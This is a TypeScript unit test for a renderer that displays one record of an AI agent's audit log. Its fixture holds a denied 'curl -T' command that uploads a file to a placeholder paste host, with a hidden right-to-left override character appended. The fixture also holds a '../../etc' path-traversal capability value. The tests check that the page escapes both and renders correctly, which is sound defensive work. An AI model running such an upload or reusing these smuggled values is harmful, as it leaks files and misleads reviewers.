// One record of the log in full.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { auditRecordPage } from '../../../src/core/report/audit-record-page.ts';

const RECORD = {
  v: 1,
  seq: 7,
  time: '2026-11-21T08:41:02.123Z',
  kind: 'decision',
  agent: { id: 'claude-code', pid: 12 },
  command: 'curl -T notes.txt https://paste.invalid/upload\u202e',
  tier: 3,
  capabilities: ['data-upload', '../../etc'],
  decision: 'denied',
  detail: { code: 'k7m2qd', head: 'a'.repeat(40) },
  prev: 'b'.repeat(64),
  hash: 'c'.repeat(64),
  mac: 'd'.repeat(64),
};

describe('auditRecordPage', () => {
  it('shows every field, the command spelled out, and the seal', () => {
    const { text } = auditRecordPage(RECORD);
    for (const part of [
      'Record 7',
      'decision',
      'denied',
      'claude-code',
      'k7m2qd',
      'a'.repeat(40),
      'c'.repeat(64),
      'd'.repeat(64),
    ])
      assert.ok(text.includes(part), part);
    assert.ok(!text.includes('\u202e'));
    assert.match(text, /curl -T notes\.txt/);
  });

  it('leads to the pages of capabilities, and to nothing else', () => {
    const { stretches } = auditRecordPage(RECORD);
    assert.deepEqual(
      stretches.flatMap(({ docsPage }) => docsPage ?? []),
      ['docs/capabilities/data-upload.md'],
    );
  });
});
